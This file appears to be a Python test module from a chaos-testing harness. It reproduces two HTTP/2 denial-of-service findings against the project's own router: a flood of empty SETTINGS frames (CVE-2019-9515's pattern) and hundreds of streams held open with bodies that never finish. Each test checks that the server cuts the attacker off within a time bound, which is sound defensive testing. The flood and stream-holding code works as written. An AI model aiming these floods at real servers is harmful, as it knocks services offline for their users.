"""Findings 4 and 5: an HTTP/2 control-frame flood, and HTTP/2 request bodies that never end.

SETTINGS flood (finding 4, CVE-2019-9515's shape). One h2c connection (prior knowledge), no
key: the preface, then empty SETTINGS frames (9 bytes each, each owed an ACK) written as
fast as the server takes them, while every frame the server sends is read and dropped.
Short form: at most 300,000 frames in 3 s; long form: 1,000,000 in 10 s (the issue's
690,000 in 8 s). Cut off: GOAWAY (ENHANCE_YOUR_CALM is the expected code), the connection
closed, or the server no longer reading. Bound: 2 s. A per-connection budget of N control
frames a second is spent within the first second at ~10^5 frames/s.

Bodies that never end (finding 5). Five h2c connections (twenty in the long form), each
with 100 streams (the listener's concurrent-stream limit): a keyed `POST
/v1/chat/completions` with `content-length: 1000`, four bytes of it, and never the rest
(opened 25 at a time).
Cut off: every stream answered (a 408, say) or reset, or its connection ended by the server.
The router starts with MERIDIAN_ROUTER_BODY_TIMEOUT_S=2 (HTTP/1.1's body deadline, which an
HTTP/2 stream must meet too), and the bound is that plus 3 s for a deadline checked
periodically on a loaded machine. Short form: 6 s; long form: 20 s.
"""

from __future__ import annotations

import asyncio
import time
from collections.abc import Mapping
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events
import h2.exceptions

from chaos.attacks import wire
from chaos.attacks.form import Form
from chaos.attacks.result import Outcome
from chaos.attacks.target import AttackFabric

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GOAWAY = 0x7
ERROR_CODES = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0xB: "ENHANCE_YOUR_CALM"}
EMPTY_SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
SETTINGS_ACK = b"\x00\x00\x00\x04\x01\x00\x00\x00\x00"
PER_WRITE = 2000
STALL_S = 1.0
BODY_TIMEOUT_S = 2.0
STREAMS_PER_CONNECTION = 100
# Streams open in small batches: what is measured is streams held, not a burst of requests
# (500 requests at once cost the neighbour a ~150 ms wait whatever the listener's limits).
STREAMS_PER_BATCH = 25
BATCH_PAUSE_S = 0.02


def _frames(buffer: bytearray) -> list[tuple[int, bytes]]:
    """Whole frames (type, payload) taken off the front of `buffer`."""
    out = []
    while len(buffer) >= 9:
        length = int.from_bytes(buffer[:3], "big")
        if len(buffer) < 9 + length:
            break
        out.append((buffer[3], bytes(buffer[9:9 + length])))
        del buffer[:9 + length]
    return out


async def _watch_for_goaway(reader: asyncio.StreamReader, ended: asyncio.Event,
                            verdict: list[tuple[str, float]]) -> None:
    """Read and drop what the server sends until GOAWAY or the end of the connection; what
    ended it, and when, into `verdict`."""
    buffer = bytearray()
    try:
        while chunk := await reader.read(65536):
            buffer += chunk
            for kind, payload in _frames(buffer):
                if kind == GOAWAY and len(payload) >= 8:
                    code = int.from_bytes(payload[4:8], "big")
                    verdict.append((f"GOAWAY {ERROR_CODES.get(code, hex(code))}", time.monotonic()))
                    return
        verdict.append(("closed", time.monotonic()))
    except (ConnectionError, OSError):
        verdict.append(("closed (reset)", time.monotonic()))
    finally:
        ended.set()


@dataclass(frozen=True)
class SettingsFlood:
    target: str = "router"
    name: str = "h2_settings_flood"
    cut_off_bound_s: float = 2.0
    router_env: Mapping[str, str] = field(default_factory=dict)

    def seconds(self, form: Form) -> float:
        return 10.0 if form.long else 3.0

    def frames(self, form: Form) -> int:
        return 1_000_000 if form.long else 300_000

    async def run(self, fabric: AttackFabric, form: Form) -> Outcome:
        reader, writer = await wire.connect(fabric.router.host, fabric.router.port)
        ended = asyncio.Event()
        verdict: list[tuple[str, float]] = []
        watcher = asyncio.create_task(_watch_for_goaway(reader, ended, verdict))
        start = time.monotonic()
        deadline = start + self.seconds(form)
        try:
            writer.write(PREFACE + EMPTY_SETTINGS + SETTINGS_ACK)
            poured = await wire.pour(writer, EMPTY_SETTINGS * PER_WRITE, self.frames(form) * len(EMPTY_SETTINGS),
                                     deadline, stop=ended)
            if not ended.is_set():
                # Everything sent: the server may still be working through it.
                await asyncio.wait({watcher}, timeout=max(0.0, deadline - time.monotonic()))
        finally:
            watcher.cancel()  # before closing: our own close is no verdict
            await wire.close(writer)
        ran = time.monotonic() - start
        if verdict:
            how, at = verdict[0]
            return Outcome(poured.accepted, at - start, how, ran, {"frames_taken": poured.accepted // len(EMPTY_SETTINGS)})
        return wire.flood_outcome(poured, start, ran, STALL_S, "frames", len(EMPTY_SETTINGS))


class _BodyWaiter:
    """One h2c connection holding its streams' bodies back; notes when the server ends each."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
        self.open: set[int] = set()
        self.ended_at: float | None = None
        self.sent = 0
        self.answers: dict[str, int] = {}
        self._got_settings = False

    def flush(self) -> None:
        data = self.conn.data_to_send()
        self.sent += len(data)
        self.writer.write(data)

    async def start(self, authority: str, key: str, streams: int) -> None:
        self.conn.initiate_connection()
        self.flush()
        # The server's SETTINGS first: its concurrent-stream limit is what the streams may use.
        while not self._settled():
            self._on(await self._read())
        headers = [(b":method", b"POST"), (b":scheme", b"http"), (b":authority", authority.encode()),
                   (b":path", b"/v1/chat/completions"), (b"authorization", f"Bearer {key}".encode()),
                   (b"content-type", b"application/json"), (b"content-length", b"1000")]
        for i in range(streams):
            stream_id = self.conn.get_next_available_stream_id()
            self.conn.send_headers(stream_id, headers)
            self.conn.send_data(stream_id, b'{"mo')
            self.open.add(stream_id)
            if (i + 1) % STREAMS_PER_BATCH == 0:
                self.flush()
                await self.writer.drain()
                await asyncio.sleep(BATCH_PAUSE_S)
        self.flush()
        await self.writer.drain()

    def _settled(self) -> bool:
        return self.conn.remote_settings.max_concurrent_streams is not None and self._got_settings

    async def _read(self) -> bytes:
        data = await self.reader.read(65536)
        if not data:
            raise ConnectionResetError("the server closed the connection")
        return data

    def _on(self, data: bytes) -> None:
        for event in self.conn.receive_data(data):
            if isinstance(event, h2.events.RemoteSettingsChanged):
                self._got_settings = True
            elif isinstance(event, h2.events.ResponseReceived):
                status = dict(event.headers).get(b":status", b"?").decode()
                self.answers[status] = self.answers.get(status, 0) + 1
                self.open.discard(event.stream_id)
            elif isinstance(event, h2.events.StreamReset):
                self.answers["reset"] = self.answers.get("reset", 0) + 1
                self.open.discard(event.stream_id)
            elif isinstance(event, h2.events.ConnectionTerminated):
                self.answers["goaway"] = self.answers.get("goaway", 0) + 1
                self.open.clear()
            elif isinstance(event, h2.events.DataReceived):
                self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        self.flush()

    async def wait_until_ended(self) -> None:
        """Until the server has ended every stream (or the connection)."""
        try:
            while self.open:
                self._on(await self._read())
        except (ConnectionError, OSError, h2.exceptions.ProtocolError):
            self.open.clear()
        self.ended_at = time.monotonic()


@dataclass(frozen=True)
class EndlessBodies:
    target: str = "router"
    name: str = "h2_endless_bodies"
    cut_off_bound_s: float = BODY_TIMEOUT_S + 3.0
    router_env: Mapping[str, str] = field(
        default_factory=lambda: {"MERIDIAN_ROUTER_BODY_TIMEOUT_S": str(BODY_TIMEOUT_S)})

    def seconds(self, form: Form) -> float:
        return 20.0 if form.long else 6.0

    def connections(self, form: Form) -> int:
        return 20 if form.long else 5

    async def run(self, fabric: AttackFabric, form: Form) -> Outcome:
        router = fabric.router
        waiters = [_BodyWaiter(*await wire.connect(router.host, router.port)) for _ in range(self.connections(form))]
        start = time.monotonic()
        try:
            for w in waiters:
                await w.start(f"{router.host}:{router.port}", fabric.tenant_key, STREAMS_PER_CONNECTION)
            waiting = [asyncio.create_task(w.wait_until_ended()) for w in waiters]
            await asyncio.wait(waiting, timeout=self.seconds(form))
            for task in waiting:
                task.cancel()
        finally:
            for w in waiters:
                await wire.close(w.writer)
        ran = time.monotonic() - start
        held = sum(len(w.open) for w in waiters)
        answers: dict[str, int] = {}
        for w in waiters:
            for k, v in w.answers.items():
                answers[k] = answers.get(k, 0) + v
        how = ", ".join(f"{v} {k}" for k, v in sorted(answers.items())) or "nothing"
        detail = {"streams": len(waiters) * STREAMS_PER_CONNECTION, "streams_still_held": held}
        sent = sum(w.sent for w in waiters)
        if held:
            return Outcome(sent, None, f"{held} streams still held after {ran:.1f} s (answered: {how})", ran, detail)
        last = max(w.ended_at or start for w in waiters)
        return Outcome(sent, last - start, f"every stream ended by the server ({how})", ran, detail)
